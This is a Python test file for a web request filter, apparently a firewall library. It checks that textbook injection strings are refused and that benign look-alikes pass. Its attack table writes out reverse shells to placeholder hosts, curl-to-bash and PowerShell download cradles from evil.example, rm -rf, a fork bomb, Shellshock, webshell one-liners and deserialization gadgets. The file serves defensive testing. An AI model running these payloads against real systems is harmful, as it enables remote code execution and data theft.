"""Commands and code as textbooks have them are refused; sentences and source code about them pass."""

from __future__ import annotations

from base64 import b64encode

import pytest

from asgi_guard.inspection.extract import Value
from tests.support.textbook import KINDS, blocks, blocks_header, blocks_name, is_refused, table

ATTACKS = {
    "rce": {
        "after a semicolon": "; ls -la",
        "after a value": "203.0.113.9; cat /etc/hosts",
        "after both": "a.txt && rm -rf /srv",
        "after either": "x || ping -c 9 203.0.113.9",
        "through a pipe": "x | nc 203.0.113.9 4444",
        "in the background": "x & wget http://evil.example/a &",
        "in back-ticks": "x`id`",
        "substituted": "$(whoami)",
        "substituted in a value": "a$(cat /etc/hostname)",
        "on a line of its own": "a\nid",
        "alone": "x;ps;",
        "alone through a pipe": "|id",
        "by its path": "x;/usr/bin/uname",
        "without blanks": "x;cat${IFS}/srv/a",
        "with another blank": "x;cat$IFS$9/srv/a",
        "in braces": "{cat,/etc/hosts}",
        "redirected": "x;cat</etc/hosts",
        "quoted apart": "x;w'h'o'am'i",
        "quoted with marks": 'x;w"h"oami',
        "with backslashes": "x;wh\\oa\\mi",
        "with an empty variable": "x;who$@ami",
        "with wild cards": "/???/c?t /e?c/h?sts",
        "with a class": "/b[i]n/cat x",
        "a slash cut out": "cat ${HOME:0:1}srv${HOME:0:1}a",
        "in base64": "echo aWQgLWE7aWQ= | base64 -d | sh",
        "downloaded and run": "x; curl -s http://evil.example/a | bash",
        "a shell over TCP": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "a shell of netcat": "nc 203.0.113.9 4444 -e /bin/sh",
        "a shell over a pipe": "rm /tmp/a;mkfifo /tmp/a;cat /tmp/a|sh -i 2>&1",
        "a waiting": "x; sleep 15",
        "a whole command": "cat /srv/secrets",
        "a whole download": "wget http://evil.example/a.sh",
        "in a variable": "a=id;$a",
        "a here-string": "x;bash<<<id",
        "of Windows": "x & dir C:\\",
        "of Windows, more": "x | type C:\\Users\\a.txt",
        "of its network": "& net user evil Word1 /add",
        "a shell of Windows": "x&cmd.exe /c whoami",
        "with carets": "x&c^m^d /c dir",
        "PowerShell": "powershell -nop -w hidden -enc SQBFAFgA",
        "PowerShell's download": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
        "certificates": "certutil -urlcache -split -f http://evil.example/a.exe",
        "a substring of Windows": "%PATH:~0,1%",
        "a loop of Windows": "for /f %i in ('whoami') do ping %i",
        "an old shell": "() { :;}; /bin/id",
        "a function without end": "q(){ q|q& };q",
        "encoded": "%3B%20cat%20%2Fetc%2Fhosts",
        "encoded line break": "x%0aid",
    },
    "code": {
        "PHP's tag": "<?php system($_GET['a']); ?>",
        "PHP's short tag": "<?=`id`?>",
        "the page about PHP": "die(phpinfo());",
        "PHP in a string": "{${phpversion()}}",
        "PHP's command": "';system('id');//",
        "PHP's evaluation": "eval(base64_decode('aWQ='))",
        "PHP's names put together": "('sys'.'tem')('id')",
        "PHP's variables": "$_GET[a]($_GET[b])",
        "PHP's assertion": "assert($_POST[1])",
        "PHP's object": 'O:8:"Customer":1:{s:4:"name";s:1:"a";}',
        "PHP's nested object": 'a:1:{i:0;O:4:"Evil":0:{}}',
        "PHP's settings": "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "Python's import": "__import__('os').system('id')",
        "Python's classes": "().__class__.__bases__[0].__subclasses__()",
        "Python's globals": "x.__init__.__globals__['os']",
        "Python in a line": "import os;os.system('id')",
        "Python's process": "subprocess.Popen(['id'])",
        "Python's pickle": "cos\nsystem\n(S'id'\ntR.",
        "Java's process": "java.lang.Runtime.getRuntime().exec('id')",
        "Java's builder": "new java.lang.ProcessBuilder({'id'}).start()",
        "Java's object": b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap").decode(),
        "Java's object in hexadecimal": "aced00057372001164",
        "Java's gadget": "org.apache.commons.collections.functors.InvokerTransformer",
        "Java's document": '<java version="1.8" class="java.beans.XMLDecoder"><void method="a"/></java>',
        "JSON's type": '{"@type":"com.sun.rowset.JdbcRowSetImpl","a":1}',
        "OGNL": "%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}",
        "OGNL's context": "#_memberAccess['allowStaticMethodAccess']=true",
        "SpEL": "${T(java.lang.System).getProperty('x')}",
        "Node's process": "require('child_process').execSync('id')",
        "Node's module": "process.mainModule.require('fs').readdirSync('.')",
        "Node's serialized function": '{"a":"_$$ND_FUNC$$_function (){}()"}',
        "JavaScript's constructor": "a.constructor.constructor('return process')()",
        "JavaScript's loop": "while(true){}",
        "Ruby's document": "--- !ruby/object:Gem::Installer\ni: x",
        "Ruby's pipe": "open('|id')",
        "Perl's block": "@{[system 'uptime']}",
        "ASP": '<% eval request("a") %>',
        "a component of Windows": 'CreateObject("WScript.Shell").Run "cmd"',
        "YAML": "!!python/object/apply:os.system ['id']",
        "a .NET object": "AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0=",
    },
}

BENIGN = {
    "rce": {
        "a company": "Salt & Pepper; Sons",
        "another one": "AT&T | Verizon",
        "research": "R&D; sales",
        "columns": "name|id|type",
        "a table": "| id | name | type |",
        "a table of hosts": "| hostname | uptime | user |",
        "markdown": "run `ls -la` before `rm -rf build`",
        "markdown's command": "use `curl -s` or `wget` here",
        "a pipe in a sentence": "use git log | grep -i foo to find it",
        "an installation": "to install it run curl https://tool.example/i.sh | sh",
        "a build": "the build does cd foo && make -j4; make install",
        "a container": "docker run -v $(pwd):/app image",
        "a variable": "export PATH=$PATH:/opt/bin in it",
        "a script": "#!/bin/bash\nset -e\ncd /srv\nls -la",
        "a condition": "price < 10 && stock > 5",
        "jQuery": "$(document).ready(function(){ $('#a').hide(); });",
        "an arrow": "x => { return x; }",
        "a style": "color:red;display:none;top:0",
        "a media type": "text/html;q=0.9,*/*;q=0.8",
        "a word to the cat": "the cat; the dog",
        "a password": "Pa$$w0rd;1|x&",
        "a query in a value": "a=1&id=2&host=b",
        "Windows in a sentence": "edit it in C:\\Windows by hand; then net users log in",
        "a variable of Windows": "it is in %APPDATA%\\tool",
        "a question": "if not exists, create it",
        "types": "type c",
        "a nap": "sleep well; then ping me",
        "a version": "node 18; python 3",
        "back-ticks": "`a` and `b`",
    },
    "code": {
        "a sentence about a call": "do not call os.system('x'), use subprocess.run([...])",
        "a function's name": "the exec() call and the system() call",
        "evaluation": "replace eval() by literal_eval()",
        "Python's class": "self.__class__.__name__ is used in repr",
        "Python's imports": "import os, sys\nimport socket",
        "a module of Node": "const fs = require('fs');",
        "Node's environment": "process.env.NODE_ENV === 'production'",
        "a stack of Java": "java.lang.NullPointerException at com.example.Main.main(Main.java:5)",
        "a cause in Java": "Caused by: java.io.IOException: Broken pipe",
        "a library of Java": "Bump org.apache.commons:commons-lang3 from 3.1 to 3.2",
        "a template": "dear {{ name }}, #{id} is ready",
        "an issue": "see #12 (and #13)",
        "XML": "<?xml version='1.0'?><a>b</a>",
        "PHP's array": 'a:1:{s:1:"a";i:2;}',
        "a function of JavaScript": "function add(a, b) { return a + b; }",
        "minified": '!function(e,t){"use strict";"object"==typeof module&&(t(e))}(window,function(e){});',
        "an expression": "/a(b)c/.exec('abc')",
        "a price": "$5 (or 6)",
        "a constructor": "the constructor (a, b) is private",
        "a token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP",
        "PHP in a sentence": "the phpinfo() page shows it",
        "a picture": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
        "YAML": "a: !!str 5",
    },
}

SCRIPTS = ("shell.php", "shell.pHp5", "a.phtml", "x.php.", "b.jsp", "c.aspx", "d.php\0.png", "..\\e.php", ".htaccess")

HARMLESS_FILES = ("photo.jpg", "php.txt", "notes about php.pdf", "a.b.c.tar.gz", "report (1).docx", "app.py", "jsp.md")

NAMES = (
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    "class[classLoader][URLs]",
    "x;whoami",
)

HARMLESS_NAMES = ("class", "class.name", "module.id", "class[]", "exec", "system")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(ATTACKS))
def test_a_textbook_attack_is_refused_at_level_1(text: str, kind: str) -> None:
    """Whatever its language is, and wherever it stands."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(BENIGN))
def test_what_looks_alike_passes(text: str, kind: str, level: int) -> None:
    """Developers write about commands and code, and everybody uses their marks."""
    assert not blocks(text, kind, level)


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_is_refused_as_an_upload(name: str) -> None:
    """By its name, whatever stands behind the name."""
    assert is_refused([Value("filename", "f", name)], 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("name", HARMLESS_FILES)
def test_a_file_is_no_script_by_a_word(name: str, level: int) -> None:
    """Only the end of a name counts."""
    assert not is_refused([Value("filename", "f", name)], level)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", NAMES)
def test_a_name_carries_an_attack(name: str, kind: str) -> None:
    """Of a parameter, of a field and of a key."""
    assert blocks_name(name, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", HARMLESS_NAMES)
def test_a_name_is_a_word(name: str, kind: str, level: int) -> None:
    """Which may be a function's as well."""
    assert not blocks_name(name, kind, level)


@pytest.mark.parametrize("name", ["User-Agent", "Referer", "X-Forwarded-Host", "Cookie", "Accept"])
def test_shellshock_is_refused_in_any_header(name: str) -> None:
    """They all become variables of the environment."""
    assert blocks_header(name, "() { :; }; /bin/bash -c id", 1)
